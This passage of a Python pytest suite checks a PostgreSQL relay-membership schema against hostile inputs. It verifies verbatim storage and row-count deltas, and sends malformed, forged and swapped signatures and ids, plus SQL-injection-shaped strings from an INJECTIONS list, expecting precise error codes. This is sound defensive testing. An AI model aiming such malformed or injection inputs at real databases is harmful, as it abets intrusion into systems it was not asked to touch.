# Notes and reasons of the new paths: no escape (normalize_note refuses it, unlike the
# allowlist's note).
NEW_NOTES = {
    "ban_pubkey.p_reason",
    "request_membership.p_note",
    "reject_join_request.p_reason",
    "create_relay_invite.p_sealed",
    "ban_event.p_reason",
    "block_ip.p_reason",
}
STORED = [
    (target, label, value)
    for target in STORED_ARGS
    for label, value in ROLE_STORED.get(
        target,
        GOOD_LABELS
        + (GOOD_NOTES if target in NEW_NOTES else [])
        + (NOTES_TOO if target == "allowlist_add.p_note" else []),
    )
]
# A pubkey given as the actor is a pubkey: stored lowercased, not verbatim.
STORED += [("add_relay_member.p_added_by", "uppercase-pubkey", H.upper())]

# (rows added per table) by target; every other table keeps its row count.
STORED_DELTAS = {
    "add_relay_member.p_added_by": {"relay_members": 1, "membership_events": 1},
    "add_relay_members.p_added_by": {"relay_members": 2, "membership_events": 2},
    "create_relay_invite.p_created_by": {"relay_invites": 1},
    "claim_relay_membership.p_policy_version": {
        "relay_members": 1,
        "membership_events": 1,
        "policy_acceptances": 1,
    },
    "claim_relay_invite.p_policy_version": {
        "relay_members": 1,
        "membership_events": 1,
        "policy_acceptances": 1,
    },
    "allowlist_add.p_note": {"relay_allowlist": 1},
    **{target: {"roles": 1, "role_events": 1} for target in ROLE_STORED},
    "set_community_profile.p_value": {},  # the row set_join_policy made before
    "create_relay_invite.p_sealed": {"relay_invites": 1},
    "ban_pubkey.p_reason": {"banned_pubkeys": 1},
    "ban_pubkey.p_banned_by": {"banned_pubkeys": 1},
    "request_membership.p_note": {"join_requests": 1},
    "reject_join_request.p_reason": {},  # the pending request becomes a rejected one
    "approve_join_request.p_approved_by": {
        "relay_members": 1,
        "membership_events": 1,
        "join_requests": -1,
    },
    "ban_event.p_reason": {"banned_events": 1},
    "ban_event.p_banned_by": {"banned_events": 1},
    "block_ip.p_reason": {"blocked_ips": 1},
    "block_ip.p_blocked_by": {"blocked_ips": 1},
    "assign_method.p_assigned_by": {"method_assignments": 1},
}
# The outcome each stored case answers (the others: their row, as create_relay_invite).
STORED_OUTCOMES = {
    "add_relay_member": [("added",)],
    "add_relay_members": [(2,)],
    "claim_relay_membership": [("joined",)],
    "allowlist_add": [("added",)],
    "define_role": [("defined",)],
    "set_community_profile": [("updated",)],
    "ban_pubkey": [("banned",)],
    "request_membership": [("requested",)],
    "reject_join_request": [("rejected",)],
    "approve_join_request": [("joined",)],
    "ban_event": [("banned",)],
    "block_ip": [("blocked",)],
    "assign_method": [("assigned",)],
}


def _stored_on_cluster() -> set[str]:
    """The stored cases that run on a cluster too: of each function, each value once for each
    type of argument (the injections: one per quoting class), as for the refused ones above."""
    seen: set[tuple[str, str, str]] = set()
    ids = set()
    for target, label, _ in STORED:
        func, arg = target.split(".")
        kind = (func, _sql_type(func, arg), label)
        if label in _INJECTION_LABELS and label not in CLUSTER_INJECTIONS or kind in seen:
            continue
        seen.add(kind)
        ids.add(f"{target}:{label}")
    return ids


_STORED_ON_CLUSTER = _stored_on_cluster()


@pytest.mark.parametrize(
    ("target", "label", "value"),
    [
        pytest.param(
            t,
            lbl,
            v,
            id=f"{t}:{lbl}",
            marks=[] if f"{t}:{lbl}" in _STORED_ON_CLUSTER else [ON_ONE_SERVER_ONLY],
        )
        for t, lbl, v in STORED
    ],
)
def test_stored_verbatim(
    target, label, value, world: World, su, conn_rolled_back, writer: Membership
) -> None:
    conn = conn_rolled_back
    func, arg = target.split(".")
    # A community of its own: committed lists of one community run ahead of the clock by a
    # second each, and these cases commit many.
    pk, pk2, role, request = new_pubkey(), new_pubkey(), new_role_id(), secrets.token_hex(32)
    c = writer.create_community(f"s-{secrets.token_hex(6)}.hostile.example.org", new_pubkey())
    c = c.details["community_id"]
    code = writer.create_relay_invite(c, "stored", max_uses=None).code
    assert writer.set_join_policy(c, "request") == "updated"
    if func in ("approve_join_request", "reject_join_request"):  # pk's request, pending
        assert writer.request_membership(c, pk, request).outcome == "requested"
    if func == "assign_method":  # methods are assigned to members
        assert writer.add_relay_member(c, pk).outcome == "added"
    before = snapshot(su)
    before_list = su.execute("SELECT buzz.member_list(%s)", (c,)).fetchone()[0]
    params: dict[str, Any] = {"c": c, "pk": pk, "pks": [pk, pk2], "role": role, "request": request}
    mine = {
        "p_community": c,
        "p_code": code if func == "claim_relay_invite" else None,  # not a chosen code
        "p_pubkey": pk,
        "p_pubkeys": [pk, pk2],
        "p_request_id": request,
        "p_event_id": request,
    }
    if func == "define_role":
        mine["p_role"] = role
    if arg != "p_created_by":  # C's owner is no member here: a label, which has no quota
        mine["p_created_by"] = "stored"
    args = [
        (n, t, mine.get(n, v))
        for n, t, v in args_for(Case(func, arg, label, value, "stored"), world)
    ]
    rows = call(conn.cursor(), func, args)
    if func == "create_relay_invite":
        params["invite"] = rows[0][0]
    expected_rows = STORED_OUTCOMES.get(func, rows)
    if func == "claim_relay_invite":  # the unlimited invite: one more use, none remaining
        expected_rows = [("joined", rows[0][1], None)]
    assert rows == expected_rows
    events = publish(conn, world.signer)
    conn.commit()
    TRIED["stored verbatim as data"] += 1

    stored = su.execute(STORED_ARGS[target], params).fetchall()
    want = value.lower() if label == "uppercase-pubkey" else value
    assert stored == [(want,)]
    after = snapshot(su)
    delta = {t: counts(after)[t] - counts(before)[t] for t in counts(before)}
    expected_delta = STORED_DELTAS[target]
    changed = {t: d for t, d in delta.items() if d and t != "member_list_pieces"}
    assert changed == expected_delta
    # A membership write committed its list, which names exactly the members; others no list.
    live = su.execute("SELECT buzz.member_list(%s)", (c,)).fetchone()[0]
    members = dict(su.execute("SELECT pubkey, role FROM buzz.relay_members(%s)", (c,)).fetchall())
    assert live["tags"] == expected_tags(members)
    assert verify_event(live)
    if "relay_members" in expected_delta:
        assert events[0] == live and live["created_at"] > before_list["created_at"]
    elif func == "define_role":
        # No list; the role's one 33534, live, verifying, with the value in its tag as given.
        assert live == before_list
        [definition] = events
        assert definition["kind"] == KIND_ROLE and verify_event(definition)
        defs = [r[0] for r in su.execute("SELECT buzz.role_definitions(%s)", (c,))]
        assert definition in defs
        assert definition["tags"][:2] == [["-"], ["d", role]]
        fields = dict(t for t in definition["tags"][2:])
        want_tag = None if value is None else str(value)
        assert fields.get(ROLE_TAGS[arg]) == want_tag, definition["tags"]
    else:
        assert events == [] and live == before_list
    # This community's (the whole database's, which grows by a community a case, once, at
    # the end: test_zy_no_drift_anywhere).
    assert su.execute("SELECT * FROM buzz.member_list_drift(%s)", (c,)).fetchall() == []


# The second phase: signatures of the wrong shape, ids that are not this transaction's.

SIG = "ab" * 64


@dataclass(frozen=True)
class SigCase:
    label: str
    hostile: Callable[[list[str], list[str], World], tuple[Any, Any]]  # (ids, sigs) -> hostile
    expect: str
    # A signature that does not verify is named by its position and the prepared id (the
    # database's own value, not the caller's): the message may contain the ids, never a sig.
    names_id: bool = False


def _flip_last_bit(sig: str) -> str:
    return sig[:-1] + format(int(sig[-1], 16) ^ 1, "x")


def _signed_by_another_key(ids: list[str], w: World) -> list[str]:
    other = RelayKey.generate()
    return [other.sign(i) for i in ids]


def _last_sig(bad: Any) -> Callable[[list[str], list[str], World], tuple[Any, Any]]:
    return lambda ids, sigs, w: (ids, [*sigs[:-1], bad])


SIG_CASES = [
    *[
        SigCase(f"sig-{label}", _last_sig(bad), "BZSIG")
        for label, bad in [
            ("127-hex", SIG[:127]),
            ("129-hex", SIG + "a"),
            ("64-hex", SIG[:64]),
            ("empty", ""),
            ("NULL", None),
            ("non-hex", "z" * 128),
            ("leading-space", " " + SIG[1:]),
            ("trailing-space", SIG + " "),
            ("trailing-newline", SIG[:127] + "\n"),
            ("non-ascii", "\u00e9" * 128),
            ("fullwidth-hex", "\uff41" * 128),
            ("0x-prefix", "0x" + SIG[:126]),
            ("huge-100k", "a" * HUGE),
            *INJECTIONS,
        ]
    ],
    SigCase("sig-NUL-byte", _last_sig(SIG[:64] + "\x00" + SIG[65:]), CLIENT),
    # Well-formed signatures that do not verify (the database checks each one: BIP-340).
    SigCase("sig-random-bytes", _last_sig(secrets.token_hex(64)), "BZSIG", names_id=True),
    SigCase("sig-well-formed-zero", _last_sig("0" * 128), "BZSIG", names_id=True),
    SigCase(
        "sigs-of-another-key",
        lambda ids, sigs, w: (ids, _signed_by_another_key(ids, w)),
        "BZSIG",
        names_id=True,
    ),
    SigCase("sigs-swapped", lambda ids, sigs, w: (ids, sigs[::-1]), "BZSIG", names_id=True),
    SigCase(
        "sig-one-bit-flipped",
        lambda ids, sigs, w: (ids, [*sigs[:-1], _flip_last_bit(sigs[-1])]),
        "BZSIG",
        names_id=True,
    ),
    SigCase(
        "sig-of-the-other-event",
        lambda ids, sigs, w: (ids, [sigs[0], sigs[0]]),
        "BZSIG",
        names_id=True,
    ),
    SigCase("ids-reordered", lambda ids, sigs, w: (ids[::-1], sigs[::-1]), "BZSTL"),
    SigCase("ids-one-missing", lambda ids, sigs, w: (ids[:-1], sigs[:-1]), "BZSTL"),
    SigCase("ids-one-extra", lambda ids, sigs, w: ([*ids, ids[0]], [*sigs, sigs[0]]), "BZSTL"),
    SigCase("sigs-one-missing", lambda ids, sigs, w: (ids, sigs[:-1]), "BZSTL"),
    SigCase(
        "ids-of-a-committed-transaction",
        lambda ids, sigs, w: (w.committed_ids, w.committed_sigs),
        "BZSTL",
    ),
    SigCase("id-NULL", lambda ids, sigs, w: ([*ids[:-1], None], sigs), "BZSTL"),
    SigCase("id-trailing-space", lambda ids, sigs, w: ([*ids[:-1], ids[-1] + " "], sigs), "BZSTL"),
    SigCase("id-63-hex", lambda ids, sigs, w: ([*ids[:-1], ids[-1][:63]], sigs), "BZSTL"),
    *[
        SigCase(f"id-{label}", lambda ids, sigs, w, bad=bad: ([*ids[:-1], bad], sigs), "BZSTL")
        for label, bad in INJECTIONS
    ],
    SigCase("ids-2-D", lambda ids, sigs, w: ([[i] for i in ids], sigs), "BZSTL"),
    SigCase("sigs-2-D", lambda ids, sigs, w: (ids, [[s] for s in sigs]), "BZSTL"),
    SigCase("ids-NULL", lambda ids, sigs, w: (None, sigs), "BZSTL"),
    SigCase("sigs-NULL", lambda ids, sigs, w: (ids, None), "BZSTL"),
    SigCase(
        "huge-100001",
        lambda ids, sigs, w: ([*ids, *[""] * 99_999], [*sigs, *["0"] * 99_999]),
        "BZSTL",
    ),
]


def _prepare(conn: psycopg.Connection, w: World, community: Any) -> tuple[list[str], list[str]]:
    """In conn's transaction: add a member to community, prepare; the ids and valid sigs."""
    assert (
        conn.execute("SELECT buzz.add_relay_member(%s, %s)", (community, new_pubkey())).fetchone()[
            0
        ]
        == "added"
    )
    rows = conn.execute(
        "SELECT community_id, id, kind, created_at, serialized"
        " FROM buzz.prepare_membership_events(%s)",
        (w.key.pubkey,),
    ).fetchall()
    prepared = [PreparedEvent(str(r[0]), r[1], r[2], r[3], r[4]) for r in rows]
    assert [p.kind for p in prepared] == [13534, 8000]
    return [p.id for p in prepared], w.signer.sign_all(prepared)


def _insert(conn: psycopg.Connection, ids: Any, sigs: Any) -> list[tuple]:
    return conn.execute(
        "SELECT * FROM buzz.insert_signed_events(%s::text[], %s::text[])", (ids, sigs)
    ).fetchall()


def _expect_insert_fails(conn, expect: str, ids: Any, sigs: Any, names_id: bool = False) -> None:
    if expect == CLIENT:
        with pytest.raises(psycopg.DataError, match="NUL") as info:
            _insert(conn, ids, sigs)
        assert info.value.sqlstate is None
        TRIED["refused client-side (NUL byte)"] += 1
        return
    with pytest.raises(psycopg.Error) as info:
        _insert(conn, ids, sigs)
    exc = info.value
    msg = exc.diag.message_primary or ""
    assert exc.sqlstate == expect, (exc.sqlstate, msg)
    assert len(msg.split()) >= 3, msg
    assert exc.diag.message_hint, msg  # BZSTL and BZSIG say what to do
    if expect == "BZSIG":
        assert "p_sigs" in msg, msg
    text = " ".join(filter(None, [msg, exc.diag.message_detail, exc.diag.message_hint]))
    for value in ([] if names_id else (ids or [])) + (sigs or []):
        if isinstance(value, str) and len(value) >= 8:
            assert value not in text, text[:300]
    if names_id:
        assert any(i in msg for i in ids), msg
    TRIED[f"rejected ({expect})"] += 1


@pytest.mark.parametrize(
    "case",
    [
        pytest.param(
            c,
            id=c.label,
            # an injection into an id or a signature: one per quoting class on a cluster
            marks=[ON_ONE_SERVER_ONLY]
            if c.label.split("-", 1)[1] in _INJECTION_LABELS - CLUSTER_INJECTIONS
            else [],
        )
        for c in SIG_CASES
    ],
)
def test_insert_signed_events_hostile(case: SigCase, world: World, su, conn_rolled_back) -> None:
    conn = conn_rolled_back
    before = snapshot(su)
    ids, sigs = _prepare(conn, world, world.values[S.C])
    bad_ids, bad_sigs = case.hostile(ids, sigs, world)
    _expect_insert_fails(conn, case.expect, bad_ids, bad_sigs, case.names_id)
    conn.rollback()
    assert snapshot(su) == before


def test_ids_prepared_before_a_later_change(world: World, su, conn_rolled_back) -> None:
    conn = conn_rolled_back
    before = snapshot(su)
    ids, sigs = _prepare(conn, world, world.values[S.C])
    conn.execute("SELECT buzz.add_relay_member(%s, %s)", (world.values[S.C], new_pubkey()))
    _expect_insert_fails(conn, "BZSTL", ids, sigs)
    conn.rollback()
    assert snapshot(su) == before


@pytest.mark.parametrize("b_prepares", [True, False], ids=["B-prepared", "B-nothing-prepared"])
def test_ids_from_another_open_transaction(
    b_prepares: bool, world: World, su, conn_rolled_back
) -> None:
    """Prepare in transaction A (still open, another connection), insert A's ids in B."""
    conn_b = conn_rolled_back
    before = snapshot(su)
    with psycopg.connect(world.url, autocommit=False) as conn_a:
        ids_a, sigs_a = _prepare(conn_a, world, world.values[S.C2])
        if b_prepares:
            _prepare(conn_b, world, world.values[S.C])
        else:
            conn_b.execute(
                "SELECT buzz.add_relay_member(%s, %s)", (world.values[S.C], new_pubkey())
            )
        _expect_insert_fails(conn_b, "BZSTL", ids_a, sigs_a)
        conn_b.rollback()
        assert snapshot(su) == before
        # A's ids were good for A all along.
        assert len(_insert(conn_a, ids_a, sigs_a)) == 2
        conn_a.rollback()
    after = snapshot(su)
    # A's insert drew event numbers, and sequences are not transactional: all else is equal.
    assert {**after, "sequences": None} == {**before, "sequences": None}


# Coverage: the table names every API function and every text, uuid and array argument.


def test_cases_cover_every_function_and_argument(su) -> None:
    rows = su.execute(
        "SELECT p.proname, a.name, t.type"
        " FROM pg_catalog.pg_proc p,"
        " LATERAL ROWS FROM (pg_catalog.unnest(p.proargnames),"
        "                    pg_catalog.unnest(p.proargtypes::oid[])) AS a (name, typ),"
        " LATERAL (SELECT pg_catalog.format_type(a.typ, NULL) AS type) t"
        " WHERE p.pronamespace = 'buzz'::regnamespace AND a.typ IS NOT NULL"
    ).fetchall()
    functions = {
        r[0]
        for r in su.execute(
            "SELECT proname FROM pg_catalog.pg_proc WHERE pronamespace = 'buzz'::regnamespace"
        )
    }
    assert set(SIGNATURES) <= functions, set(SIGNATURES) - functions
    signatures = {(f, n, t) for f, sig in SIGNATURES.items() for n, t, _ in sig}
    assert {r for r in rows if r[0] in SIGNATURES} == signatures
    # A function beyond SPEC's list that takes text, a uuid or an array needs its own rows here
    # (one without such arguments, like an argumentless read, has nothing to be hostile with).
    unlisted = {r for r in rows if r[0] not in SIGNATURES and r[2] in {"text", "uuid", "text[]"}}
    assert not unlisted, unlisted
    covered = {(c.func, c.arg.split("[")[0]) for c in CASES}
    wanted = {(f, n) for f, n, t in signatures if t in {"text", "uuid", "text[]"}}
    assert wanted <= covered, wanted - covered
    # SQL-injection-shaped strings reach every text argument.
    injected = {(c.func, c.arg.split("[")[0]) for c in CASES if c.label == INJECTIONS[0][0]}
    injected |= {tuple(t.split(".")) for t, lbl, _ in STORED if lbl == INJECTIONS[0][0]}
    if any(c.label == f"sig-{INJECTIONS[0][0]}" for c in SIG_CASES):
        injected.add(("insert_signed_events", "p_sigs"))
    text_args = {(f, n) for f, n, t in signatures if t in {"text", "text[]", "uuid"}}
    assert text_args <= injected, text_args - injected


def test_zy_no_drift_anywhere(su) -> None:
    """After every case of the module: every live list and role event of every community
    agrees with the stored members and roles, and verifies."""
    assert su.execute("SELECT * FROM buzz.member_list_drift()").fetchall() == []


def test_zz_report(capsys) -> None:
    """Print how many hostile inputs this run tried (runs last in this module)."""
    total = sum(TRIED.values())
    with capsys.disabled():
        print(f"\nhostile inputs tried: {total}")
        for what, n in sorted(TRIED.items()):
            print(f"  {n:5d} {what}")
